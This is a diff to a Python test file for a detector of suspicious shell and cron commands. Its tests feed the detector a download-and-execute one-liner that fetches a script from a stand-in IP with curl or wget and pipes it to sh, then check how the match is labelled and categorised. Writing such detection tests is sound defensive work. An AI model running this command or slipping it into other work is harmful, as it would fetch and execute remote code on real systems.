@@ -9,6 +9,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from davy.knowledge.commands import suspicious_command
+from davy.model.findings import Aspect
 
 HONEST = (
     "cd / && run-parts --report /etc/cron.hourly",
@@ -87,9 +88,14 @@ def test_shape_is_seen_through_shell_grammar(command: str, shape: str) -> None:
 def test_strongest_shape_comes_first_and_shows_what_it_saw() -> None:
     matches = suspicious_command("* (curl -fsSL http://192.0.2.7/i.sh||wget -q -O- http://192.0.2.7/i.sh)|sh")
     assert [match.bits for match in matches] == sorted((match.bits for match in matches), reverse=True)
-    assert matches[0].id == "two fetchers"
+    assert matches[0].id == "fetched into a shell"
     assert matches[0].technique == "T1105"
     assert "wget -q" in matches[0].text
+
+
+def test_shapes_of_one_line_are_of_several_aspects() -> None:
+    matches = suspicious_command("(curl -fsSL http://192.0.2.7/i.sh||wget -q -O- http://192.0.2.7/i.sh)|sh")
+    assert {match.aspect for match in matches} == {Aspect.PERSISTENCE, Aspect.NETWORK}
 
 
 def test_comments_run_nothing() -> None:
